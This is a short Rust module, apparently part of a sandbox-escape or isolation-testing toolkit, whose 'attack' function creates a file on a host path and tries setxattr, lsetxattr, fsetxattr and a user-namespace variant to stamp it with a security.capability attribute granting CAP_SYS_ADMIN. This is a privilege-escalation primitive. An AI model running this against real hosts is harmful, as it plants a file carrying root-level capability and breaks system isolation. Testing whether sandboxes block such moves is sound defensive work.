//! Gives a file of the host a capability.

use crate::kit::{self, Args, O_CREAT, O_WRONLY, join, nr, path};

/// Version 2, effective; then permitted and inheritable words: `CAP_SYS_ADMIN`.
const SETS: [u32; 5] = [0x0200_0001, 1 << 21, 0, 0, 0];
/// The same in version 3, for the root of a user namespace.
const SETS_OF: [u32; 6] = [0x0300_0001, 1 << 21, 0, 0, 0, 100_000];
const LSETXATTR: usize = nr::SETXATTR + 1;
const FSETXATTR: usize = nr::SETXATTR + 2;

pub fn attack(args: Args) -> ! {
    let file = join(&[args.get(2), b"/capable"]);
    let fd = match kit::open(file.with_nul(), O_CREAT | O_WRONLY) {
        Ok(fd) => fd,
        Err(errno) => kit::failed(format_args!("no file can be made: {errno}")),
    };
    let (file, name) = (path(file.with_nul()), path(b"security.capability\0"));
    let (sets, sets_of) = (SETS.as_ptr() as usize, SETS_OF.as_ptr() as usize);
    kit::attempt_any(&mut [
        ("setxattr", &mut || kit::call(nr::SETXATTR, [file, name, sets, 20, 0])),
        ("lsetxattr", &mut || kit::call(LSETXATTR, [file, name, sets, 20, 0])),
        ("fsetxattr", &mut || kit::call(FSETXATTR, [fd, name, sets, 20, 0])),
        ("setxattr for a namespace", &mut || kit::call(nr::SETXATTR, [file, name, sets_of, 24, 0])),
    ])
}
